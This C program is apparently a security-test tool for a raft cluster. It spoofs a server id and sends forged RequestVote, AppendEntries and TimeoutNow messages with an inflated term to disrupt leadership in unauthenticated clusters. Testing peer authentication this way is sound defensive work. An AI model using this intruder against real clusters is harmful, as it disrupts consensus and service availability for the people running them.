/*
 * A stranger on the raft port: connects to a node with canonical raft's own TCP transport and
 * sends well-formed raft messages under a made-up (or stolen) server id -- a RequestVote and a
 * TimeoutNow with a much higher term, and an empty AppendEntries claiming leadership.
 *
 *   raft_intruder <target id> <target ip:port> <claimed id> <own ip:port> <term> <workdir>
 *
 * Used by the security tests: against a cluster without peer authentication it disrupts terms
 * and leadership; against an authenticated one it must change nothing. Exits 0 after sending.
 */
#include <raft.h>
#include <raft/uv.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <uv.h>

static int sent, done_cnt;
static struct raft_io io;
static struct raft_uv_transport transport;
static uv_loop_t loop;
static uv_timer_t timer;

static void send_cb(struct raft_io_send *req, int status)
{
    fprintf(stderr, "intruder: send finished: %s\n", status ? raft_strerror(status) : "ok");
    free(req);
    done_cnt++;
}

static void io_closed(struct raft_io *p)
{
    (void)p;
    raft_uv_close(&io);
    raft_uv_tcp_close(&transport);
    uv_close((uv_handle_t *)&timer, NULL);
}

static void on_timer(uv_timer_t *t)
{
    (void)t;
    io.close(&io, io_closed);
}

static void tick(struct raft_io *p)
{
    (void)p;
}

static void recv_cb(struct raft_io *p, struct raft_message *m)
{
    (void)p;
    fprintf(stderr, "intruder: received message type %d from %llu\n", m->type,
            (unsigned long long)m->server_id);
}

static void send_msg(struct raft_message *m)
{
    struct raft_io_send *req = calloc(1, sizeof *req);
    int rc = io.send(&io, req, m, send_cb);
    if (rc != 0) {
        fprintf(stderr, "intruder: send: %s\n", raft_strerror(rc));
        free(req);
        return;
    }
    sent++;
}

int main(int argc, char **argv)
{
    if (argc != 7) {
        fprintf(stderr,
                "usage: %s <target id> <target addr> <claimed id> <own addr> <term> "
                "<workdir>\n",
                argv[0]);
        return 2;
    }
    signal(SIGPIPE, SIG_IGN); /* the node hangs up on us */
    raft_id target = strtoull(argv[1], NULL, 10);
    const char *target_addr = argv[2];
    raft_id me = strtoull(argv[3], NULL, 10);
    const char *my_addr = argv[4];
    raft_term term = strtoull(argv[5], NULL, 10);
    uv_loop_init(&loop);
    if (raft_uv_tcp_init(&transport, &loop) != 0 ||
        raft_uv_init(&io, &loop, argv[6], &transport) != 0) {
        fprintf(stderr, "intruder: init failed\n");
        return 1;
    }
    if (io.init(&io, me, my_addr) != 0) {
        fprintf(stderr, "intruder: io init: %s\n", io.errmsg);
        return 1;
    }
    raft_term t0;
    raft_id vote;
    struct raft_snapshot *snap;
    raft_index start;
    struct raft_entry *entries;
    size_t n;
    if (io.load(&io, &t0, &vote, &snap, &start, &entries, &n) != 0 ||
        io.start(&io, 100, tick, recv_cb) != 0) {
        fprintf(stderr, "intruder: io start: %s\n", io.errmsg);
        return 1;
    }
    struct raft_message m;
    memset(&m, 0, sizeof m);
    m.server_id = target;
    m.server_address = target_addr;

    m.type = RAFT_IO_REQUEST_VOTE;
    m.request_vote.term = term;
    m.request_vote.candidate_id = me;
    m.request_vote.last_log_index = 1000000;
    m.request_vote.last_log_term = term;
    m.request_vote.disrupt_leader = true;
    m.request_vote.pre_vote = false;
    send_msg(&m);

    memset(&m.append_entries, 0, sizeof m.append_entries);
    m.type = RAFT_IO_APPEND_ENTRIES;
    m.append_entries.term = term;
    m.append_entries.prev_log_index = 0;
    m.append_entries.prev_log_term = 0;
    m.append_entries.leader_commit = 0;
    send_msg(&m);

    m.type = RAFT_IO_TIMEOUT_NOW;
    m.timeout_now.term = term;
    m.timeout_now.last_log_index = 1000000;
    m.timeout_now.last_log_term = term;
    send_msg(&m);

    uv_timer_init(&loop, &timer);
    uv_timer_start(&timer, on_timer, 1500, 0);
    uv_run(&loop, UV_RUN_DEFAULT);
    uv_loop_close(&loop);
    printf("sent=%d finished=%d\n", sent, done_cnt);
    return 0;
}
